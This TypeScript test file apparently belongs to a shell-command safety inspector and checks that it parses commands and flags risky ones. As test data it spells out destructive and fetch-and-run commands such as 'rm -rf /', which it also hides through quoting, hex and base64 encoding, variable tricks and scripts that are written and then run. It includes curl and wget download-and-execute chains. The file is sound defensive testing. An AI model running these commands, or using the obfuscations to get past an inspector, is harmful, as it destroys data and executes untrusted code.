import assert from 'node:assert/strict';
import { test } from 'node:test';
import { fc } from '../../random.ts';
import type { Finding } from '../../../src/kernel/finding.ts';
import { LONGEST_COMMAND, readShell, readSource } from '../../../src/inspect/shell/read-shell.ts';

const bins = (text: string): string[] => readShell(text, '').commands.map((command) => command.bin);
const risks = (text: string): string[] => readShell(text, '').findings.map((finding) => finding.risk);

test('[INSPECT-23] every program that would run is a fact, inner ones after the outer one that starts them', () => {
  assert.deepEqual(
    bins('sudo env A=1 nice -n 3 git status | tee x && sh -c "ls; wc -l"'),
    ['sudo', 'env', 'nice', 'git', 'tee', 'sh', 'ls', 'wc'].slice(0, 8),
  );
  assert.deepEqual(bins('find . -exec grep -l x {} +'), ['find', 'grep']);
  assert.deepEqual(bins('/usr/local/bin/python3.12 a.py'), ['python3.12']);
  assert.deepEqual(bins('echo "$(date)" <(sort a)'), ['date', 'sort', 'echo']);
});

test('[INSPECT-23] words only the running shell knows are marked, and a program so named has no name', () => {
  const [first, second] = readShell('cat "$FILE"; $TOOL x', '').commands;
  assert.deepEqual([first?.bin, first?.dynamic], ['cat', true]);
  assert.deepEqual([second?.bin, second?.dynamic], ['', true]);
  assert.equal(readShell('ls -l a', '').commands[0]?.dynamic, false);
});

test('[INSPECT-24] variables, substitutions and encodings with known values are folded into the words', () => {
  const argv = (text: string): readonly string[] | undefined => readShell(text, '').commands.at(-1)?.argv;
  assert.deepEqual(argv('a=sta; b=tus; git $a$b'), ['git', 'status']);
  assert.deepEqual(argv('git $(echo status)'), ['git', 'status']);
  assert.deepEqual(argv("git $'\\x73tatus'"), ['git', 'status']);
  assert.deepEqual(argv('git {status,--short}'), ['git', 'status', '--short']);
  assert.deepEqual(argv('v=xstatusx; git ${v:1:6}'), ['git', 'status']);
  assert.deepEqual(argv('echo status | base64 | true; git "${nothing:-status}"'), ['git', 'status']);
  assert.deepEqual(argv('set a; x=(git status); "${x[@]}"'), ['git', 'status']);
});

test('[INSPECT-24] a value assigned on a path that may not be taken joins the earlier one', () => {
  assert.ok(risks('x=ls; if a; then x=rm; fi; $x -rf /').includes('CRITICAL'));
  assert.ok(risks('x=rm; if a; then x=ls; fi; $x -rf /').includes('CRITICAL'));
});

test('[INSPECT-25] paths and URLs are facts with their access', () => {
  const { paths, urls } = readShell('curl -o out.bin https://x.example/a; cat < in.txt > /tmp/../tmp/o', '/c');
  assert.deepEqual(urls, ['https://x.example/a']);
  assert.deepEqual(
    paths.map((path) => `${path.access} ${path.path}`),
    ['write out.bin', 'read in.txt', 'write /tmp/o'],
  );
  assert.ok(paths.every((path) => path.pointer === '/c'));
});

test('[INSPECT-26] what does not parse, nests too deep or is too long is said, never passed over', () => {
  for (const text of [
    'echo "unclosed',
    'if true; then',
    '$('.repeat(400),
    '{ '.repeat(400),
    'nohup '.repeat(60) + 'ls',
    'eval '.repeat(60) + 'ls',
    'sudo '.repeat(60) + 'ls',
  ]) {
    assert.ok(
      readShell(text, '').findings.some((finding) => finding.code === 'UNINSPECTABLE' && !finding.inspected),
      text.slice(0, 20),
    );
  }
  assert.ok(risks(`echo ${'a'.repeat(LONGEST_COMMAND)}`).includes('CRITICAL'));
});

test('[INSPECT-26] however much harmless text stands before it, the harm is found', () => {
  assert.ok(risks(`${'true && '.repeat(9_000)}rm -rf /`).includes('CRITICAL'));
  assert.ok(risks(`${'A=b '.repeat(9_000)}rm -rf /`).includes('CRITICAL'));
  assert.ok(risks(`${'# note\n'.repeat(9_000)}rm -rf /`).includes('CRITICAL'));
});

test('[INSPECT-26] constant folding cannot be made to explode', () => {
  const bomb = `x=aaaaaaaa;${'x=$x$x$x;'.repeat(200)}echo $x`;
  const { commands } = readShell(bomb, '');
  assert.ok(commands.every((command) => command.argv.join('').length < 100_000));
  assert.ok(readShell('{a,b}'.repeat(60), '').commands.length >= 1);
  assert.ok(readShell(`find . ${'-exec find . '.repeat(200)}`, '').commands.length < 200);
});

test('[INSPECT-27] SQL given to a database client is handed to the reader of SQL', () => {
  const asked: string[] = [];
  const finding: Finding = { detector: 'sql', code: 'SQL_DROP', risk: 'HIGH', pointer: '/c', evidence: 'DROP', confidence: 1, inspected: true };
  const readSql = (text: string, _pointer: string, dialect: string): readonly Finding[] => {
    asked.push(`${dialect}: ${text.trim()}`);
    return [finding];
  };
  const { findings } = readShell('psql -c "SELECT 1"; mysql -e "SELECT 2"; echo "SELECT 3" | sqlite3 a.db; psql <<EOF\nSELECT 4\nEOF', '/c', {
    readSql,
  });
  assert.deepEqual(asked, ['postgresql: SELECT 1', 'mysql: SELECT 2', 'sqlite: SELECT 3', 'postgresql: SELECT 4']);
  assert.ok(findings.includes(finding));
});

test('[INSPECT-28] evidence is short and holds no long random words', () => {
  const { findings } = readShell(`curl -X DELETE -H "Authorization: Bearer sk12345678901234567890abcdef" https://x.example/${'a'.repeat(300)}`, '');
  assert.ok(findings.length > 0);
  for (const { evidence } of findings) {
    assert.ok(evidence.length <= 120);
    assert.ok(!evidence.includes('sk12345678901234567890abcdef'));
  }
});

test('[INSPECT-29] reading never throws and is a function of the text alone', () => {
  const piece = fc.constantFrom(
    'rm',
    ' -rf',
    ' /',
    '$',
    '$(',
    ')',
    '`',
    '"',
    "'",
    '{',
    '}',
    ',',
    ';',
    '|',
    '&',
    '<',
    '>',
    '<<E\n',
    '\n',
    'x=',
    '$x',
    '${x',
    ':-',
    '\\',
    '*',
    '[[',
    ' ]]',
    'if ',
    'then ',
    'fi',
    'for a in ',
    'do ',
    'done',
    'sh -c ',
    'eval ',
    'find . -exec ',
    '((',
    '))',
    '\u0000',
    'é',
    '\ud800',
    'case a in a)',
    ';;',
    'esac',
    'f() ',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 24 }), (pieces) => {
      const text = pieces.join('');
      assert.deepEqual(readShell(text, ''), readShell(text, ''));
    }),
    { numRuns: 2_000 },
  );
});

test('[INSPECT-20] quoting letters of a word never lowers the verdict', () => {
  const dress = fc.array(fc.constantFrom('plain', 'backslash', 'single', 'double', 'hex', 'empty'), { minLength: 2, maxLength: 2 });
  fc.assert(
    fc.property(dress, (ways) => {
      const word = [...'rm'].map((letter, index) => write(letter, ways[index] ?? 'plain')).join('');
      assert.ok(risks(`${word} -rf /`).includes('CRITICAL'), word);
    }),
  );
});

function write(letter: string, way: string): string {
  if (way === 'backslash') return `\\${letter}`;
  if (way === 'single') return `'${letter}'`;
  if (way === 'double') return `"${letter}"`;
  if (way === 'hex') return `$'\\x${letter.charCodeAt(0).toString(16)}'`;
  return way === 'empty' ? `""${letter}` : letter;
}

test('[INSPECT-30] a file written and run by the same text is judged by its content and its origin', () => {
  for (const text of [
    'echo "rm -rf /" > x.sh; sh x.sh',
    "cat > a.sh <<'EOF'\nrm -rf /\nEOF\nbash ./a.sh",
    'echo "rm -rf /" | tee /tmp/x; chmod +x /tmp/x; /tmp/x',
    'printf "rm -rf /" > y; cat y | sh',
    'echo cm0gLXJmIC8K | base64 -d > z; . ./z',
  ]) {
    assert.ok(risks(text).includes('CRITICAL'), text);
  }
  for (const text of [
    'curl -o i.sh https://x.example/i; sh i.sh',
    'wget -O /tmp/i x.example && chmod +x /tmp/i && /tmp/i',
    'curl x.example > i; bash i',
  ]) {
    assert.ok(risks(text).includes('HIGH'), text);
  }
  assert.deepEqual(risks('echo "rm -rf /" > notes.txt; cat notes.txt'), []);
});

test('[INSPECT-31] code given to an interpreter is read by what it would start and touch', () => {
  const source = (language: 'python' | 'node', text: string): string[] => readSource(language, text, '/code').findings.map((finding) => finding.risk);
  assert.ok(source('python', 'import os\nos.system("rm -rf /")').includes('CRITICAL'));
  assert.ok(source('python', "import shutil\nshutil.rmtree('/home/anna')").includes('CRITICAL'));
  assert.ok(source('python', 'exec(base64.b64decode(x))').includes('HIGH'));
  assert.ok(source('node', "require('child_process').execSync('curl x.example | sh')").includes('HIGH'));
  assert.deepEqual(source('python', 'import json\nprint(json.dumps({"a": 1}))'), []);
  assert.deepEqual(source('python', 'import re\np = re.compile("a")\nprint("os.system is dangerous")'), []);
});
